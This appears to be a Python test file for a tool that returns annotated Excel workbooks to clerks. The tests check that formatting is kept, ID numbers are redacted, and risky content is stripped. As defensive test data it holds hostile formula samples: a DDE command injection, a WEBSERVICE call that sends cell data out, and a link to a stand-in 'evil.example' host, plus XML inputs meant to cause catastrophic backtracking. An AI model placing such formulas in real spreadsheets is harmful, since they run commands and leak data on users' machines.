"""The clerk's own workbook with marks: what it had stays, and nothing in it does more than hold values."""

import contextlib
import io
import time
import zipfile
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import openpyxl
import pytest
import xlsxwriter  # type: ignore[import-untyped]
from hypothesis import given, settings
from hypothesis import strategies as st

from scorecard.checks import CheckResult
from scorecard.checks.own import PROBLEMS, without_marks
from scorecard.findings import Finding, Severity
from scorecard.intake import read_bytes
from scorecard.sheets import annotated
from scorecard.sheets.pages import FILLS
from scorecard.sheets.returned import returned
from scorecard.sheets.sheet_part import MARK
from scorecard.sheets.xml import UnfitError, harmless
from tests.unit.sheets.test_annotate import DANGEROUS, finding, result

IDENTITY = "610102198001011234"
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
)


def made(fill: Callable[[Any, Any], None]) -> bytes:
    """Return a workbook with the sheet 填报 (社区名称, 户数, 备注 and two rows), and what `fill` adds."""
    stream = io.BytesIO()
    book = xlsxwriter.Workbook(stream, {"in_memory": True})
    sheet = book.add_worksheet("填报")
    sheet.write_row(0, 0, ["社区名称", "户数", "备注"])
    sheet.write_row(1, 0, ["甲社区", 400, "好"])
    sheet.write_row(2, 0, ["乙社区", 12])
    fill(book, sheet)
    book.close()
    return stream.getvalue()


def plain(book: Any, sheet: Any) -> None:
    """Add nothing."""


def checked(data: bytes, *findings: Finding) -> CheckResult:
    """Return the check of a workbook whose header is the first row of 填报."""
    document = without_marks(read_bytes("报表.xlsx", data))
    return replace(result(*findings), document=document)


def marked(fill: Callable[[Any, Any], None], *findings: Finding) -> bytes:
    """Return a workbook with the findings marked; it was not written anew."""
    data = made(fill)
    back = returned(checked(data, *findings), data)
    assert annotated(checked(data, *findings), data) == back
    return back


def opened(data: bytes) -> openpyxl.Workbook:
    """Return the workbook as another program opens it."""
    return openpyxl.load_workbook(io.BytesIO(data))


def parts(data: bytes) -> dict[str, str]:
    """Return the text of every part."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}


def changed(data: bytes, member: str, old: str, new: str) -> bytes:
    """Return a workbook with a text of one part replaced."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(stream, "w") as target:
        for name in source.namelist():
            text = source.read(name)
            assert name != member or old.encode() in text
            target.writestr(name, text.replace(old.encode(), new.encode()) if name == member else text)
    return stream.getvalue()


def equipped(book: Any, sheet: Any) -> None:
    """Add what a clerk's workbook may have."""
    looks = book.add_format({"bold": True, "bg_color": "#00FF00", "locked": False, "num_format": "0.0"})
    sheet.write_number(1, 1, 400, looks)
    sheet.set_column("B:D", 33)
    sheet.set_column("C:C", 20, None, {"hidden": True})
    sheet.set_row(2, 40, None, {"hidden": True})
    sheet.freeze_panes(1, 1)
    sheet.protect("", {"sort": True})
    sheet.data_validation("B2:B3", {"validate": "list", "source": "=名单!$A$1:$A$2", "input_message": "选"})
    sheet.conditional_format("B2:B3", {"type": "cell", "criteria": ">", "value": 9, "format": looks})
    sheet.set_header("&C机密")
    sheet.set_landscape()
    sheet.merge_range("A5:B5", "合并")
    sheet.write_formula("B4", "=SUM(B2:B3)", None, 412)
    sheet.write_comment("A2", "我的批注")
    book.add_worksheet("名单").hide()
    book.define_name("全部", "=填报!$B$2:$B$3")
    book.set_custom_property("编号", "7")


def test_what_the_workbook_had_stays() -> None:
    """Looks, widths, hidden parts, panes, protection, rules, formulas, names, comments, properties."""
    book = opened(marked(equipped, finding(row=2, column="B"), finding(row=3)))
    before, sheet = opened(made(equipped))["填报"], book["填报"]
    assert (book.sheetnames, book["名单"].sheet_state) == (["填报", "名单", "问题清单"], "hidden")
    cell, old = sheet["B2"], before["B2"]
    assert [repr(x) for x in (cell.fill, cell.font, cell.number_format)] == [
        repr(x) for x in (old.fill, old.font, old.number_format)
    ]
    assert not cell.protection.locked
    assert (sheet.column_dimensions["B"].width, sheet.column_dimensions["C"].hidden) == (
        before.column_dimensions["B"].width,
        True,
    )
    assert (sheet.row_dimensions[3].hidden, sheet.row_dimensions[3].height) == (
        True,
        before.row_dimensions[3].height,
    )
    assert (sheet.freeze_panes, sheet.protection.sheet, sheet.protection.sort) == ("B2", True, False)
    (rule,) = sheet.data_validations.dataValidation
    assert (str(rule.sqref), rule.formula1, rule.prompt) == ("B2:B3", "名单!$A$1:$A$2", "选")
    assert {str(area.sqref) for area in sheet.conditional_formatting} == {"B2:B3", "B2"}
    assert (sheet.oddHeader.center.text, sheet.page_setup.orientation) == ("机密", "landscape")
    assert [str(area) for area in sheet.merged_cells.ranges] == ["A5:B5"]
    assert (sheet["B4"].value, book.defined_names["全部"].value) == ("=SUM(B2:B3)", "填报!$B$2:$B$3")
    assert sheet["A2"].comment.text == "我的批注"
    assert [p.value for p in book.custom_doc_props.props] == ["7"]


def test_the_marks_are_those_of_a_workbook_written_anew() -> None:
    """Comment, colour, column of problems with its width, filter, and the list with links."""
    book = opened(marked(plain, finding(row=2, column="B"), finding("W803", row=3)))
    sheet = book["填报"]
    assert sheet["B2"].comment.text == "【错误】C404不对。请改。"
    (area,) = sheet.conditional_formatting
    assert (str(area.sqref), area.rules[0].formula) == ("B2", [MARK])
    assert f"#{area.rules[0].dxf.fill.bgColor.rgb[2:]}" == FILLS[Severity.ERROR]
    assert [sheet.cell(row, 4).value for row in (1, 2, 3)] == [
        PROBLEMS,
        "【错误】C404不对。请改。",
        "【错误】W803不对。请改。",
    ]
    assert (sheet.column_dimensions["D"].width, sheet.auto_filter.ref) == (60, "A1:D3")
    assert [book["问题清单"].cell(row, 2).hyperlink.location for row in (4, 5)] == ["'填报'!B2", "'填报'!D3"]


def test_a_second_round_leaves_no_mark_of_the_first() -> None:
    """Marked twice, the workbook has one list and the marks of what is still wrong; the clerk's own stay."""
    first = marked(equipped, finding(row=2, column="B"), finding(row=3, column="B"))
    second = returned(checked(first, finding(row=3, column="B")), first)
    book = opened(second)
    sheet = book["填报"]
    assert book.sheetnames == ["填报", "名单", "问题清单"]
    assert {str(area.sqref) for area in sheet.conditional_formatting} == {"B2:B3", "B3"}
    assert (sheet["B2"].comment, sheet["A2"].comment.text) == (None, "我的批注")
    assert [sheet.cell(row, 4).value for row in (1, 2)] == [PROBLEMS, None]
    assert book["问题清单"].max_row == 4


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://x/"&B2)',
        '=HYPERLINK("http://x/","看")',
        "=cmd|'/c calc'!A0",
        "='C:\\[x.xlsx]表'!A1",
        "=_xlfn.IMAGE(A1)",
        '=IF(TRUE,CALL("a","b","c"))',
    ],
)
def test_a_formula_that_does_more_than_compute_is_its_value(formula: str) -> None:
    """With it all formulas of its sheet become values; as a rule of a cell or as a name it is left out."""

    def fill(book: Any, sheet: Any) -> None:
        sheet.write_formula("B4", formula, None, "7")
        sheet.write_formula("B5", "=B2+1", None, 401)
        sheet.data_validation("C2", {"validate": "custom", "value": formula})
        sheet.conditional_format("C2", {"type": "formula", "criteria": formula, "format": book.add_format()})
        book.define_name("x", formula)

    data = marked(fill, finding(row=2, column="B"))
    book = opened(data)
    sheet = book["填报"]
    assert (sheet["B4"].value, sheet["B5"].value) == ("7", 401)
    assert (sheet.data_validations.dataValidation, "x" in book.defined_names) == ([], False)
    assert {str(area.sqref) for area in sheet.conditional_formatting} == {"B2"}
    assert not any(
        word in text for text in parts(data).values() for word in ("http://x/", "/c calc", "x.xlsx", "CALL(")
    )


@pytest.mark.parametrize("formula", ["1+1", 'IF(ISNUMBER(A1),SUM(A1:B2),"[x]|y")', "名单!$A$1", "$3:$3"])
def test_a_formula_that_computes_is_harmless(formula: str) -> None:
    """Functions that everybody uses, cells of other sheets, and texts with any sign."""
    assert harmless(formula)


def test_what_leads_out_of_the_workbook_is_left_out() -> None:
    """Pictures, charts, links to addresses and their parts; what is said in a linked cell stays."""

    def fill(book: Any, sheet: Any) -> None:
        sheet.insert_image("F1", "a.png", {"image_data": io.BytesIO(PIXEL)})
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "=填报!$B$2:$B$3"})
        sheet.insert_chart("G1", chart)
        sheet.write_url("C3", "http://evil.example/", None, "看这里")

    data = marked(fill)
    assert opened(data)["填报"]["C3"].value == "看这里"
    assert not any("evil" in text for text in parts(data).values())
    assert not any(word in name for name in parts(data) for word in ("media", "chart", "drawing"))


def test_no_identity_number_goes_out() -> None:
    """Neither as a text, a number, a comment, nor in a text that no cell shows any more."""

    def fill(book: Any, sheet: Any) -> None:
        sheet.write_string("C2", f"张三{IDENTITY}")
        sheet.write_rich_string("C3", "李四6101021980", book.add_format({"bold": True}), "01011234", "号")
        sheet.write_formula("C4", "=C2", None, IDENTITY)
        sheet.write_number("C5", 610102800101123)
        sheet.write_comment("A2", f"见{IDENTITY}")
        sheet.write_string("C6", f"旧{IDENTITY}")
        sheet.write_string("C6", "新")

    data = marked(fill)
    assert not any(word in t for t in parts(data).values() for word in (IDENTITY, "610102800101123"))
    sheet = opened(data)["填报"]
    assert [sheet[cell].value for cell in ("C2", "C3", "C4", "C5", "C6")] == [
        "张三［身份证号已隐去］",
        "李四［身份证号已隐去］号",
        "［身份证号已隐去］",
        "［身份证号已隐去］",
        "新",
    ]


@pytest.mark.parametrize("text", [t for t in DANGEROUS if t.isprintable()])
def test_a_text_that_looks_like_a_formula_stays_a_text(text: str) -> None:
    """It is given the look that spreadsheet programs keep texts by, beside the look it had."""

    def fill(book: Any, sheet: Any) -> None:
        sheet.write_string("C2", text, book.add_format({"bold": True}))

    cell = opened(marked(fill))["填报"]["C2"]
    assert (cell.value, cell.data_type, cell.quotePrefix, cell.font.b) == (text, "s", True, True)


UNFIT = {
    "another prefix": ("xl/worksheets/sheet1.xml", '<c r="A1"', '<c xmlns:x="a" r="A1"/><x:c r="A9"'),
    "a comment": ("xl/worksheets/sheet1.xml", "<sheetData>", "<!-- --><sheetData>"),
    "no looks": ("xl/_rels/workbook.xml.rels", "relationships/styles", "relationships/other"),
    "a sheet that is none": (
        "xl/_rels/workbook.xml.rels",
        "relationships/worksheet",
        "relationships/chartsheet",
    ),
    "a number that is none": ("xl/worksheets/sheet1.xml", "<cols>", '<cols><col min="x" max="y"/>'),
    "another namespace": ("xl/styles.xml", "spreadsheetml/2006/main", "spreadsheetml/2007/main"),
}


@pytest.mark.parametrize("case", UNFIT)
def test_what_cannot_be_edited_is_written_anew(case: str) -> None:
    """Whatever is unusual in the parts: no error, and the workbook that intake's reading makes."""
    read = checked(made(equipped), finding(row=2, column="B"))
    data = changed(made(equipped), *UNFIT[case])
    with pytest.raises(UnfitError):
        returned(read, data)
    odd = replace(read, document=replace(read.document, sha256=read_bytes("x.xlsx", data).sha256))
    assert annotated(odd, data) == annotated(read)


def test_other_bytes_than_those_that_were_checked_are_not_marked() -> None:
    """A file that changed since its check does not go back with the marks of the older one."""
    read = checked(made(plain), finding(row=2, column="B"))
    assert annotated(read, made(equipped)) == annotated(read)


@settings(max_examples=15, deadline=None)
@given(
    st.lists(
        st.lists(
            st.text(st.characters(min_codepoint=32, exclude_categories=["Cs", "Cn"]), max_size=8)
            | st.integers(-999, 999)
            | st.floats(0, 1e6).map(lambda x: round(x, 3)),
            max_size=5,
        ),
        max_size=6,
    )
)
def test_every_cell_comes_back_as_it_was(rows: list[list[str | int | float]]) -> None:
    """Whatever stands in the cells, the returned workbook reads as the one that was sent, but for marks."""

    def fill(book: Any, sheet: Any) -> None:
        for row, cells in enumerate(rows, 3):
            for column, value in enumerate(cells):
                write = sheet.write_string if isinstance(value, str) else sheet.write_number
                write(row, column, value)

    data = made(fill)
    read = checked(data, finding(row=2, column="B"))
    back = without_marks(read_bytes("退回.xlsx", returned(read, data)))
    width = len(read.document.sheets[0].rows[0])
    trimmed = [row[:width] for row in back.sheets[0].rows]
    assert trimmed == list(read.document.sheets[0].rows)
    assert back.sheets[0].kinds == read.document.sheets[0].kinds


@pytest.mark.parametrize(
    "text",
    [
        "<c" + " " * 300_000 + 'r="A9"/>',
        "<c r='A9'" + " x" * 100_000 + "/>",
        "<c><f>" + "a" * 300_000 + "</f></c>",
        "<row>" * 60_000,
        "<c>" * 100_000,
        "<f" + ' a="' * 60_000,
    ],
    ids=["blanks", "attributes", "formula", "rows", "cells", "quotes"],
)
def test_hostile_rows_take_no_time(text: str) -> None:
    """What would make a careless pattern crawl is refused or carried out in less than two seconds of CPU."""
    data = changed(made(plain), "xl/worksheets/sheet1.xml", "</sheetData>", f"<row>{text}</row></sheetData>")
    before = time.process_time()
    with contextlib.suppress(UnfitError):
        returned(checked(made(plain), finding(row=2, column="B")), data)
    assert time.process_time() - before < 2
